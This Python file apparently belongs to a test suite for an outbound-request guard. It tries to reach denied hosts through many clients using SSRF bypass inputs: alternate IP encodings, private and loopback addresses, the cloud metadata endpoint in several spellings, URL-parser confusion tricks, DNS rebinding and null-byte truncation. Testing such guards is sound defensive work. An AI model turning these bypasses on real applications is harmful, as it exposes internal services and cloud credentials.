"""Names and how they may be spelled, private space, metadata, and rebinding; each through several clients."""

from __future__ import annotations

import socket
import subprocess

import world
from table import ATTEMPTS, attempt

from attempts.clients import _aiohttp, _http_client, _httpx2, _requests, _urllib  # isort: skip

SPELLINGS = {
    "decimal": "1572394769",
    "hexadecimal": "0x5db8d711",
    "octal": "0135.0270.0327.0021",
    "mixed parts": "0x5d.184.0xd7.021",
    "two parts": "93.12113681",
    "three parts": "93.184.55057",
    "mapped": "::ffff:93.184.215.17",
    "mapped hex": "::ffff:5db8:d711",
    "mapped long": "0:0:0:0:0:ffff:5db8:d711",
    "compatible": world.COMPATIBLE,
    "nat64": world.NAT64,
    "6to4": world.SIX_TO_FOUR,
    "teredo": world.TEREDO,
    "trailing dot": "denied.test.",
    "upper case": "DENIED.TEST",
    "suffix": "allowed.test.denied.test",
    "prefix": "xallowed.test",
    "below an exact name": "front.allowed.test.denied.test",
    "apex of a wildcard": "partner.test",
    "wildcard as suffix": "shop.partner.test.denied.test",
    "blocked below a wildcard": "blocked.partner.test",
    "alias of a blocked one": "alias.partner.test",
    "hyphen": "allowed-test.denied.test",
    "full width": "ｄｅｎｉｅｄ.test",
    "ideographic dot": "denied。test",
    "punycode": "xn--allowed-9za.denied.test",
    "soft hyphen": "de\u00adnied.test",
    "zero": "0.0.0.0",
    "short zero": "0",
    "loopback": "127.0.0.1",
    "short loopback": "127.1",
    "high loopback": "127.9.9.9",
    "decimal loopback": "2130706433",
    "localhost": "localhost",
    "loopback v6": "::1",
    "unspecified v6": "::",
    "private 10": world.PRIVATE4,
    "private 172": world.OFFICE4,
    "private 192": world.HOME4,
    "carrier grade": world.CARRIER4,
    "mapped private": "::ffff:10.1.2.3",
    "metadata": world.METADATA4,
    "decimal metadata": "2852039166",
    "hexadecimal metadata": "0xa9fea9fe",
    "mapped metadata": "::ffff:169.254.169.254",
    "metadata v6": world.METADATA6,
    "metadata by name": "metadata.google.internal",
    "private behind a wildcard": "inner.partner.test",
    "loopback behind a wildcard": "loop.partner.test",
    "metadata behind a wildcard": "meta.partner.test",
    "nat64 behind a wildcard": "nat.partner.test",
    "mapped private behind a wildcard": "mapped.partner.test",
    "private before public behind a wildcard": "mixed.partner.test",
}
TRICKS = {
    "userinfo": "http://allowed.test@denied.test/{token}",
    "userinfo with port": "http://allowed.test:80@denied.test/{token}",
    "userinfo with slash": "http://allowed.test%2f@denied.test/{token}",
    "fragment": "http://denied.test#@allowed.test/{token}",
    "query": "http://denied.test?@allowed.test/{token}",
    "backslash": "http://denied.test\\@allowed.test/{token}",
    "backslash turned": "http://allowed.test\\@denied.test/{token}",
    "percent": "http://%64enied.test/{token}",
    "two at": "http://allowed.test@allowed.test@denied.test/{token}",
    "tab": "http://den\tied.test/{token}",
    "scheme in upper case": "HTTP://DENIED.test/{token}",
    "port with zeros": "http://denied.test:00080/{token}",
    "empty port": "http://denied.test:/{token}",
    "dot segments": "http://denied.test/../allowed.test/{token}",
}


def _raw(url):
    """Resolve and connect, as the smallest client does."""
    host, _, token = url.removeprefix("http://").rpartition("/")
    host = host.strip("[]")
    for family, kind, protocol, _, address in socket.getaddrinfo(host, 80, type=socket.SOCK_STREAM):
        opened = socket.socket(family, kind, protocol)
        opened.settimeout(2)
        try:
            opened.connect(address)
            opened.sendall(f"GET /{token} HTTP/1.1\r\nHost: {host}\r\n\r\n".encode())
            opened.recv(10)
        except OSError:
            continue
        finally:
            opened.close()


def _curl(url):
    subprocess.run(["curl", "-sgm3", "-o", "/dev/null", url], check=False)


CLIENTS = {
    "socket": (_raw, ()), "http.client": (_http_client, ()), "urllib": (_urllib, ()),
    "requests": (_requests, ("module:requests",)),
    "httpx2": (_httpx2, ("module:httpx2",)), "aiohttp": (_aiohttp, ("module:aiohttp",)), "curl": (_curl, ("program:curl",)),
}  # fmt: skip
QUICK = {"mapped", "decimal", "metadata", "private behind a wildcard", "suffix"}

# Combinations that the client itself refuses, or reads as another host: they never arrive, guarded or not.
INERT = {
    "urllib": {
        "full width", "ideographic dot", "userinfo", "userinfo with port", "userinfo with slash", "backslash", "backslash turned",
        "two at", "tab",
    },
    "requests": {"full width", "ideographic dot", "soft hyphen", "backslash turned", "tab"},
    "httpx2": {"octal", "full width", "soft hyphen", "backslash", "percent", "tab"},
    "aiohttp": {
        "decimal", "octal", "two parts", "three parts", "soft hyphen", "short zero", "short loopback", "decimal loopback",
        "decimal metadata", "backslash", "backslash turned", "percent",
    },
    "curl": {"backslash", "two at", "tab"},
}  # fmt: skip

for _client, (_get, _needs) in CLIENTS.items():
    for _what, _host in SPELLINGS.items():
        if _what not in INERT.get(_client, ()):
            ATTEMPTS.add(
                "names",
                f"{_what}, {_client}",
                lambda aim, get=_get, host=_host: get(aim.url(host)),
                needs=_needs,
                quick=_what in QUICK and _client in {"socket", "requests"},
            )
    for _what, _url in TRICKS.items():
        if _client not in {"socket", "http.client"} and _what not in INERT.get(_client, ()):
            ATTEMPTS.add(
                "names",
                f"{_what}, {_client}",
                lambda aim, get=_get, url=_url: get(url.format(token=aim.token)),
                needs=_needs,
            )


@attempt("names", quick=True)
def rebinding_between_lookup_and_connect(aim):
    """The name answers harmlessly once; then it means the inside."""
    socket.getaddrinfo("rebind.partner.test", 80)
    _raw(aim.url("rebind.partner.test"))
    _raw(aim.url("rebind.partner.test"))


@attempt("names", "module:requests")
def rebinding_requests(aim):
    import requests

    for _ in range(3):
        requests.get(aim.url("rebind.partner.test"), timeout=2)


@attempt("names", "module:httpx2")
def rebinding_httpx2_to_metadata(aim):
    for _ in range(3):
        _httpx2(aim.url("rebind-meta.partner.test"))


@attempt("names", "program:curl")
def rebinding_curl(aim):
    for _ in range(3):
        _curl(aim.url("rebind-meta.partner.test"))


@attempt("names")
def rebinding_by_two_threads(aim):
    import threading

    threads = [threading.Thread(target=_raw, args=(aim.url("rebind.partner.test"),)) for _ in range(8)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(3)


@attempt("names")
def port_that_is_not_allowed(aim):
    socket.getaddrinfo("narrow.test", world.TLS_ALTERNATE)
    opened = socket.create_connection((world.NARROW4, world.ALTERNATE), 2)
    opened.sendall(aim.request())
    opened.recv(10)


@attempt("names")
def null_in_a_name(aim):
    connection = socket.create_connection((b"denied.test\0.allowed.test".split(b"\0")[0], 80), 2)
    connection.sendall(aim.request())
    connection.recv(10)
